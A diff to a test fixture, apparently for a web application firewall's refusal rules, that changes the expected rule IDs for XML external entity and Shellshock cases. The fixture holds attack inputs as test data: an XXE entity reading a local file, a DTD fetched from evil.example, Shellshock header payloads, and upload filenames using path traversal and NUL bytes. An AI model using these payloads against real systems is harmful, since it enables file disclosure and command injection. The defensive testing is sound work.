@@ -161,8 +161,8 @@ export const refused: readonly Refused[] = [
   ['upload of a server configuration', multipart({ head: 'name="f"; filename=".htaccess"', content: 'x' }), 100812],
   ['upload with a path', multipart({ head: 'name="f"; filename="../a.txt"', content: 'x' }), 100812],
   ['upload with a NUL', multipart({ head: 'name="f"; filename="a.php\0.jpg"', content: 'x' }), 100111],
-  ['external entity', typed('application/xml', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]><a>&b;</a>'), 100406],
-  ['external document type', typed('text/xml', '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>'), 100606],
+  ['external entity', typed('application/xml', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]><a>&b;</a>'), 100810],
+  ['external document type', typed('text/xml', '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>'), 100810],
   ['XML in UTF-7', typed('application/xml', '<?xml version="1.0" encoding="UTF-7"?><a/>'), 100810],
   [
     'inclusion of a document',
@@ -170,7 +170,7 @@ export const refused: readonly Refused[] = [
     100810,
   ],
   // Shellshock
-  ['Shellshock in User-Agent', header('User-Agent', '() { :;}; /bin/true'), 100704],
+  ['Shellshock in User-Agent', header('User-Agent', '() { :;}; /bin/true'), 100706],
   ['Shellshock in Referer', header('Referer', '() { _; } >_[$($())] { x; }'), 100706],
   ['Shellshock in another header', header('X-Custom', '() { ignored; }; x'), 100706],
 ]
